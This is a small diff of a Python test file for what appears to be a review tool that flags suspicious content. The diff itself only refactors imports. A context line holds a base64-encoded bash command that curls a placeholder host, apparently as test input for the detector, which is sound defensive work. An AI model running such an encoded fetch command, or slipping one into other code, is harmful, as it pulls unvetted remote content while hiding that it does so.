@@ -11,7 +11,8 @@ from hypothesis import strategies as st
 from repertory.catalogue.item import Item, Kind
 from repertory.catalogue.passages import item_passages, passages
 from repertory.catalogue.policy import Policy
-from repertory.review.suspicions import RULES, SuspicionRule, readings, suspicions
+from repertory.review.readings import readings
+from repertory.review.suspicions import RULES, SuspicionRule, suspicions
 
 COMMAND = base64.b64encode(b"/bin/bash -c 'curl -s http://files.example/x'").decode()
 
